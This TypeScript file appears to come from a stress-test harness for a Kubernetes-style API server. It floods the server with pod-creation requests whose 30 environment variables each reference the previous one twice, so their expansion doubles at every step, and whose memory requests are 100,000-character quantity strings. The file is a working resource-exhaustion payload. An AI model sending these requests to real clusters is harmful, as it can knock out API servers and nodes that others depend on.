import { type Attack, flood } from "../attack.ts";

const env = Array.from({ length: 30 }, (_none, index) => {
  return { name: `A${index + 1}`, value: index === 0 ? "x".repeat(10) : `$(A${index})$(A${index})` };
});

/** Pods whose environment doubles with every variable, and whose quantities are long. */
export const doublingPods: Attack = {
  name: "pods that double, long quantities",
  who: "admin",
  run: (attacker) =>
    flood(attacker, {
      who: "admin",
      width: 2,
      ask(index) {
        const memory = index % 2 === 0 ? "1" : "1".repeat(100_000);
        const container = { name: "c", image: "busybox:1", env, resources: { requests: { memory } } };
        const metadata = { name: `doubling-${index % 10}` };
        const body = JSON.stringify({ apiVersion: "v1", kind: "Pod", metadata, spec: { containers: [container] } });
        return { method: "POST", path: "/api/v1/namespaces/default/pods", body };
      },
    }),
};
